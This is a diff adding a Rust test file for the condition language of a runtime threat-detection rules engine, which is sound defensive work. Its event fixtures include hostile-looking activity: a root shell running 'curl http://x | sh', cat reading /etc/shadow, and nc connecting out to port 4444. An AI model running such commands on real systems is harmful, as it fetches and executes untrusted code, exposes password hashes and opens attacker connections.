@@ -1,0 +1,268 @@
+//! The condition language, one case per operator, field form and transformer.
+
+use palisade_rules::{Engine, EngineConfig, Throttle};
+
+use crate::support::{check_rule, diagnostics, ev, load, rule, run};
+
+const EXEC: &str = r#"{"kind":"execve","timestamp_ns":1000000000000,
+  "process":{"pid":42,"vpid":42,"ppid":7,"name":"bash","exe":"/bin/bash","exepath":"/usr/bin/bash",
+    "args":["-c","curl http://x | sh"],"cwd":"/root","tty":34816,"uid":0,"user":"root",
+    "loginuid":1000,"cap_effective":2097152,"start_time_ns":999000000000,"exe_upper_layer":true},
+  "ancestors":[{"pid":7,"name":"sshd","exe":"sshd","exepath":"/usr/sbin/sshd","args":["-D"]},
+    {"pid":1,"name":"systemd","exepath":"/lib/systemd/systemd"}],
+  "container":{"id":"0123456789abcdef0123","image":"docker.io/library/nginx:1.27",
+    "labels":[["app","web"],["enc","aGVsbG8="]],"privileged":true}}"#;
+
+const OPEN: &str = r#"{"kind":"openat","ret":3,"process":{"name":"cat"},
+  "payload":{"type":"open","fd":{"num":3,"kind":"file","name":"/etc/shadow"},"flags":0,"mode":0}}"#;
+
+const CONNECT: &str = r#"{"kind":"connect","process":{"name":"nc"},
+  "payload":{"type":"network","fd":{"num":5,"kind":"ipv4","socket":{"protocol":"tcp",
+    "local_addr":"10.0.0.2","local_port":40000,"remote_addr":"1.2.3.4","remote_port":4444,
+    "connected":true}}}}"#;
+
+/// Whether a one-rule file with `condition` fires on `event`, or its load errors.
+fn fires(condition: &str, event: &str) -> Result<bool, String> {
+    let rule_set = load(&[&rule(condition)]);
+    if !rule_set.errors().is_empty() {
+        return Err(diagnostics(&rule_set));
+    }
+    let mut engine = Engine::new(rule_set, &EngineConfig::default());
+    let mut alerts = Vec::new();
+    engine.process(&ev(event), &mut alerts);
+    Ok(!alerts.is_empty())
+}
+
+#[test]
+fn operators_and_fields() {
+    let cases: &[(&str, &str, bool)] = &[
+        // Comparison operators.
+        ("proc.name = bash", EXEC, true),
+        ("proc.name == bash", EXEC, true),
+        ("proc.name != bash", EXEC, false),
+        ("proc.name != zsh", EXEC, true),
+        ("proc.pid > 41", EXEC, true),
+        ("proc.pid >= 42", EXEC, true),
+        ("proc.pid < 42", EXEC, false),
+        ("proc.pid <= 42", EXEC, true),
+        ("proc.pid = 0x2a", EXEC, true),
+        // String operators.
+        ("proc.cmdline contains \"curl http\"", EXEC, true),
+        ("proc.cmdline icontains CURL", EXEC, true),
+        ("proc.cmdline contains CURL", EXEC, false),
+        ("proc.name bcontains 6173", EXEC, true),
+        ("proc.name bstartswith 6261", EXEC, true),
+        ("proc.name bstartswith 6173", EXEC, false),
+        ("proc.exepath startswith /usr/", EXEC, true),
+        ("proc.exepath endswith /bash", EXEC, true),
+        ("proc.exepath glob '/usr/*/ba?h'", EXEC, true),
+        ("proc.exepath iglob '/USR/*'", EXEC, true),
+        ("proc.exepath glob '/bin/*'", EXEC, false),
+        ("proc.exepath regex 'usr/bin'", EXEC, false),
+        ("proc.exepath regex '/usr/bin/(ba|z)sh'", EXEC, true),
+        ("proc.exepath pmatch (/usr/bin)", EXEC, true),
+        ("proc.exepath pmatch (/usr/bi)", EXEC, false),
+        ("proc.exepath pmatch (/opt, /usr/)", EXEC, true),
+        ("proc.name in (zsh, bash)", EXEC, true),
+        ("proc.name in (zsh)", EXEC, false),
+        ("proc.aname intersects (sshd, foo)", EXEC, true),
+        ("proc.aname intersects (foo)", EXEC, false),
+        ("proc.pname exists", EXEC, true),
+        ("fd.name exists", EXEC, false),
+        // An absent field fails every check, so only a negation holds.
+        ("not fd.name = x", EXEC, true),
+        ("fd.name != x", EXEC, false),
+        // Quoting and escapes.
+        ("proc.cmdline contains \"x | sh\"", EXEC, true),
+        ("proc.cmdline contains 'http://x'", EXEC, true),
+        ("proc.args = \"-c curl http://x | sh\"", EXEC, true),
+        ("proc.name = \"ba\\\"sh\"", EXEC, false),
+        // Precedence: not > and > or.
+        ("proc.name = zsh and proc.pid = 1 or proc.name = bash", EXEC, true),
+        ("proc.name = bash or proc.name = zsh and proc.pid = 1", EXEC, true),
+        ("not proc.name = zsh and proc.pid = 42", EXEC, true),
+        ("not (proc.name = bash and proc.pid = 1)", EXEC, true),
+        ("not not proc.name = bash", EXEC, true),
+        // Field arguments and ancestry.
+        ("proc.aname[0] = bash", EXEC, true),
+        ("proc.aname[1] = sshd", EXEC, true),
+        ("proc.aname[2] = systemd", EXEC, true),
+        ("proc.aname = systemd", EXEC, true),
+        ("proc.aname[3] exists", EXEC, false),
+        ("proc.aexepath[2] = /lib/systemd/systemd", EXEC, true),
+        ("proc.pcmdline = \"sshd -D\"", EXEC, true),
+        ("evt.arg.flags contains EXE_UPPER_LAYER", EXEC, true),
+        ("evt.arg[flags] contains EXE_UPPER_LAYER", EXEC, true),
+        ("evt.arg[0] = /bin/bash", EXEC, true),
+        // Transformers and field-to-field comparison.
+        ("tolower(proc.name) = bash", EXEC, true),
+        ("toupper(proc.name) = BASH", EXEC, true),
+        ("basename(proc.exepath) = bash", EXEC, true),
+        ("len(proc.name) = 4", EXEC, true),
+        ("b64(container.label[enc]) = hello", EXEC, true),
+        ("toupper(basename(proc.exepath)) = BASH", EXEC, true),
+        ("proc.name = val(proc.aname[0])", EXEC, true),
+        ("proc.name = val(proc.pname)", EXEC, false),
+        ("proc.cwd contains val(user.name)", EXEC, true),
+        // Process, user, container fields.
+        ("thread.cap_effective contains CAP_SYS_ADMIN", EXEC, true),
+        ("container.id = 0123456789ab", EXEC, true),
+        ("container.image.repository = docker.io/library/nginx", EXEC, true),
+        ("container.image.tag = \"1.27\"", EXEC, true),
+        ("container.label[app] = web", EXEC, true),
+        ("container.privileged = true", EXEC, true),
+        ("user.loginuid = 1000", EXEC, true),
+        ("proc.tty != 0", EXEC, true),
+        ("proc.duration = 1000000000", EXEC, true),
+        ("proc.is_exe_upper_layer = true", EXEC, true),
+        ("evt.type = execve and evt.dir = <", EXEC, true),
+        ("evt.type != execve", EXEC, false),
+        // Files.
+        ("evt.is_open_read = true", OPEN, true),
+        ("evt.is_open_write = true", OPEN, false),
+        ("fd.typechar = f and fd.num >= 0", OPEN, true),
+        ("fd.directory = /etc and fd.filename = shadow", OPEN, true),
+        ("evt.arg.flags = O_RDONLY", OPEN, true),
+        ("evt.res = SUCCESS and evt.rawres = 3", OPEN, true),
+        ("container.id = host", OPEN, true),
+        // Sockets.
+        ("fd.sip = 1.2.3.4", CONNECT, true),
+        ("fd.sip = \"1.2.3.0/24\"", CONNECT, true),
+        ("fd.cip = 1.2.3.4", CONNECT, false),
+        ("fd.rport = 4444 and fd.lport in (40000, 1)", CONNECT, true),
+        ("fd.net = 10.0.0.0/8", CONNECT, true),
+        ("fd.snet in (10.0.0.0/8, 192.168.0.0/16)", CONNECT, false),
+        ("fd.l4proto = tcp and fd.typechar = 4 and fd.connected = true", CONNECT, true),
+        ("fd.name = \"10.0.0.2:40000->1.2.3.4:4444\"", CONNECT, true),
+    ];
+    let mut failures = Vec::new();
+    for (condition, event, expected) in cases {
+        match fires(condition, event) {
+            Ok(fired) if fired == *expected => {}
+            Ok(_) => failures.push(format!("{condition:?} should be {expected}")),
+            Err(errors) => failures.push(format!("{condition:?} failed to load: {errors}")),
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn macros_and_lists() {
+    check_rule(
+        r#"
+- list: shells
+  items: [bash, sh]
+- list: all_shells
+  items: [shells, zsh, "quoted item"]
+- macro: spawned
+  condition: evt.type in (execve, execveat)
+- macro: shell
+  condition: spawned and proc.name in (all_shells)
+- rule: Shell
+  desc: x
+  condition: shell and not proc.pname in shells
+  output: "shell %proc.name under %proc.pname"
+  priority: NOTICE
+"#,
+        &[
+            ev(r#"{"kind":"execve","process":{"name":"zsh"},"ancestors":[{"name":"sshd"}]}"#),
+            ev(r#"{"kind":"execve","process":{"name":"sh"},"ancestors":[{"name":"bash"}]}"#),
+            ev(r#"{"kind":"execve","process":{"name":"quoted item"}}"#),
+            ev(r#"{"kind":"openat","process":{"name":"bash"}}"#),
+        ],
+        "0: Shell: shell zsh under sshd
+         1: -
+         2: Shell: shell quoted item under <NA>
+         3: -",
+    );
+}
+
+#[test]
+fn output_templates() {
+    check_rule(
+        r#"
+- rule: Out
+  desc: x
+  condition: evt.type = execve
+  output: "%proc.name %(proc.pname) %proc.aname[2] %evt.arg.flags %container.label[app]. 100%%"
+  priority: INFO
+"#,
+        &[ev(EXEC)],
+        "0: Out: bash sshd systemd EXE_UPPER_LAYER web. 100%",
+    );
+}
+
+#[test]
+fn every_matching_rule_fires_and_rules_are_indexed_by_event_type() {
+    let rules = r#"
+- rule: Any exec
+  desc: x
+  condition: evt.type = execve
+  output: exec %proc.name
+  priority: INFO
+- rule: Bash exec
+  desc: x
+  condition: evt.type in (execve, execveat) and proc.name = bash
+  output: bash %proc.pid
+  priority: WARNING
+- rule: Not exec
+  desc: x
+  condition: not evt.type in (execve, execveat) and proc.name = bash
+  output: other %evt.type
+  priority: ERROR
+"#;
+    check_rule(
+        rules,
+        &[ev(EXEC), ev(r#"{"kind":"openat","process":{"name":"bash"}}"#)],
+        "0: Any exec: exec bash
+         0: Bash exec: bash 42
+         1: Not exec: other openat",
+    );
+}
+
+#[test]
+fn alerts_carry_evidence() {
+    let rule_set = load(&[&rule("proc.name in (bash) and not fd.name exists")]);
+    let mut engine = Engine::new(rule_set, &EngineConfig::default());
+    let mut alerts = Vec::new();
+    engine.process(&ev(EXEC), &mut alerts);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0].priority.to_string(), "Warning");
+    assert_eq!(
+        alerts[0].fields,
+        vec![
+            ("proc.name".to_owned(), "bash".to_owned()),
+            ("fd.name".to_owned(), "<NA>".to_owned()),
+        ]
+    );
+}
+
+#[test]
+fn dedupe_window_and_rate_limit() {
+    let at = |seconds: u64, name: &str| {
+        ev(&format!(
+            r#"{{"kind":"execve","timestamp_ns":{},"process":{{"name":"{name}"}}}}"#,
+            seconds * 1_000_000_000
+        ))
+    };
+    let events = [at(1, "a"), at(2, "a"), at(3, "b"), at(20, "a")];
+    let mut config = EngineConfig::default();
+    config.default_throttle = Throttle {
+        dedupe_window_ns: 10_000_000_000,
+        max_per_second: None,
+    };
+    let deduped = run(&[&rule("evt.type = execve")], &config, &events);
+    assert_eq!(deduped, "0: R: a\n1: -\n2: R: b\n3: R: a");
+
+    let mut config = EngineConfig::default();
+    config.rule_throttles.insert(
+        "R".to_owned(),
+        Throttle {
+            dedupe_window_ns: 0,
+            max_per_second: Some(1),
+        },
+    );
+    let burst = [at(5, "a"), at(5, "b"), at(5, "c"), at(6, "d")];
+    let limited = run(&[&rule("evt.type = execve")], &config, &burst);
+    assert_eq!(limited, "0: R: a\n1: -\n2: -\n3: R: d");
+}
